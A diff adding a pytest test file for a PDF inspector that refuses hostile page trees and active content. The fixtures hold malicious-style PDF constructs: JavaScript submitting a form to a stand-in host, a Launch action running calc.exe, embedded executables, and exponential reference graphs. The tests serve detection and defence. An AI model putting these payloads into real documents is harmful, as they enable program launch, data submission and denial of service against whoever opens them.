@@ -1,0 +1,163 @@
+"""PDF intake within a budget: hostile page trees and active content are refused at once."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+from pyhanko.pdf_utils.reader import PdfFileReader
+
+from docmgmt.domain.errors import (
+    ActiveContentError,
+    MalformedPdfError,
+    PdfTooComplexError,
+    RejectedFileError,
+)
+from signing.pdfcheck import PyHankoPdfInspector, find_active_content
+from tests.support.pdfs import make_pdf, page_count_pdf, pdf_from_objects, pdf_with, shared_kids_pdf
+
+JS_OPEN = b"/OpenAction << /S /JavaScript /JS (this.submitForm('http://x.test/');) >>"
+
+
+def _inspect(tmp_path: Path, content: bytes, *, structure_only: bool = False) -> object:
+    path = tmp_path / "in.pdf"
+    path.write_bytes(content)
+    inspector = PyHankoPdfInspector()
+    if structure_only:
+        return inspector.check_structure(path)
+    return inspector.inspect(path)
+
+
+def _refused(tmp_path: Path, content: bytes) -> RejectedFileError:
+    started = time.perf_counter()
+    with pytest.raises(RejectedFileError) as info:
+        _inspect(tmp_path, content)
+    # Refusals are a walk of a handful of nodes; a loaded 2-core machine still does it in ms.
+    assert time.perf_counter() - started < 1.0
+    return info.value
+
+
+@pytest.mark.parametrize("depth", [16, 40])
+def test_a_page_tree_with_shared_kids_is_refused_at_once(tmp_path: Path, depth: int) -> None:
+    error = _refused(tmp_path, shared_kids_pdf(depth))
+    assert error.code == "pdf_page_tree_invalid"
+    assert "twice" in error.detail
+
+
+@pytest.mark.parametrize(("count", "code"), [
+    ("100000000000000000000", "pdf_too_complex"),
+    ("2", "pdf_page_tree_invalid"),
+    ("0", "pdf_page_tree_invalid"),
+    ("-1", "pdf_page_tree_invalid"),
+    ("1.5", "pdf_page_tree_invalid"),
+    ("(1)", "pdf_page_tree_invalid"),
+])
+def test_a_page_count_that_does_not_match_is_refused(tmp_path: Path, count: str,
+                                                     code: str) -> None:
+    assert _refused(tmp_path, page_count_pdf(count)).code == code
+
+
+def test_a_count_that_matches_only_at_the_root_is_refused(tmp_path: Path) -> None:
+    # Root says 2 and has two kids, but the intermediate node claims 5 for its one page.
+    pdf = pdf_from_objects([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
+        b"<< /Type /Pages /Parent 2 0 R /Kids [5 0 R] /Count 5 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
+    ])
+    assert _refused(tmp_path, pdf).code == "pdf_page_tree_invalid"
+
+
+def test_a_tree_over_the_visit_budget_is_too_complex(tmp_path: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("signing.pdfcheck.MAX_PAGES", 3)
+    error = _refused(tmp_path, make_pdf(4))
+    assert error.code == "pdf_too_complex"
+    assert isinstance(error, MalformedPdfError)
+
+
+def test_ordinary_documents_pass_with_their_page_count(tmp_path: Path) -> None:
+    facts = _inspect(tmp_path, make_pdf(300))
+    assert getattr(facts, "page_count", None) == 300
+
+
+ACTIVE = [
+    pytest.param(pdf_with(JS_OPEN), "JavaScript", id="openaction-js"),
+    pytest.param(pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"), "Launch",
+                 id="openaction-launch"),
+    pytest.param(pdf_with(b"/OpenAction << /S /URI /URI (http://x.test/) >>"),
+                 "/OpenAction", id="openaction-uri"),
+    pytest.param(pdf_with(page=b"/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
+                          extra=(b"(app.alert(1))",)), "JavaScript", id="page-aa-js"),
+    pytest.param(pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
+                          b"/Next << /S /SubmitForm /F (http://x.test/) >> >>"),
+                 "SubmitForm", id="goto-next-submitform"),
+    pytest.param(pdf_with(b"/Names << /JavaScript 4 0 R >>",
+                          extra=(b"<< /Names [(a) 5 0 R] >>",
+                                 b"<< /S /JavaScript /JS (app.alert(1)) >>")),
+                 "JavaScript", id="names-javascript"),
+    pytest.param(pdf_with(b"/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>",
+                          extra=(b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
+                                 b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream")),
+                 "embedded file", id="embedded-files"),
+    pytest.param(pdf_with(page=b"/Annots [4 0 R]",
+                          extra=(b"<< /Type /Annot /Subtype /FileAttachment "
+                                 b"/Rect [0 0 10 10] /FS (x.exe) >>",)),
+                 "FileAttachment", id="file-attachment"),
+    pytest.param(pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+                          extra=(b"<< /Length 0 >>\nstream\n\nendstream",)), "XFA", id="xfa"),
+    pytest.param(pdf_with(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
+                          b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>]"), "GoToR",
+                 id="link-gotor"),
+]
+
+
+@pytest.mark.parametrize(("content", "named"), ACTIVE)
+def test_active_content_is_refused_naming_what_was_found(tmp_path: Path, content: bytes,
+                                                         named: str) -> None:
+    error = _refused(tmp_path, content)
+    assert isinstance(error, ActiveContentError)
+    assert error.code == "active_content"
+    assert named in error.detail
+    # The structure alone is fine: /validate reads such a file and reports what it found.
+    assert getattr(_inspect(tmp_path, content, structure_only=True), "page_count", None) == 1
+
+
+HARMLESS = [
+    pytest.param(pdf_with(b"/OpenAction [3 0 R /Fit]"), id="openaction-destination"),
+    pytest.param(pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>"),
+                 id="openaction-goto"),
+    pytest.param(pdf_with(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
+                          b"/A << /S /URI /URI (https://vanban.chinhphu.vn/) >> >>]"),
+                 id="link-uri"),
+    pytest.param(pdf_with(b"/Names << /Dests << /Names [(p1) [3 0 R /Fit]] >> >>"),
+                 id="named-destinations"),
+]
+
+
+@pytest.mark.parametrize("content", HARMLESS)
+def test_links_and_destinations_are_not_active_content(tmp_path: Path, content: bytes) -> None:
+    assert getattr(_inspect(tmp_path, content), "page_count", None) == 1
+
+
+def test_the_detector_walks_within_a_budget(tmp_path: Path) -> None:
+    # 40 levels of arrays that each name the next twice: a naive walk makes 2^40 visits.
+    bodies = [b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>",
+              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
+    bodies += [f"[{5 + i} 0 R {5 + i} 0 R]".encode() for i in range(40)]
+    bodies.append(b"<< /S /JavaScript /JS (1) >>")
+    path = tmp_path / "dag.pdf"
+    path.write_bytes(pdf_from_objects(bodies))
+    started = time.perf_counter()
+    with path.open("rb") as fh:
+        reader = PdfFileReader(fh, strict=True)
+        found = find_active_content(reader)
+        assert time.perf_counter() - started < 1.0
+        assert any("JavaScript" in f for f in found)
+        # Each reference is visited once: a budget of a few hundred suffices, ten does not.
+        assert find_active_content(reader, budget=300) == found
+        with pytest.raises(PdfTooComplexError):
+            find_active_content(reader, budget=10)
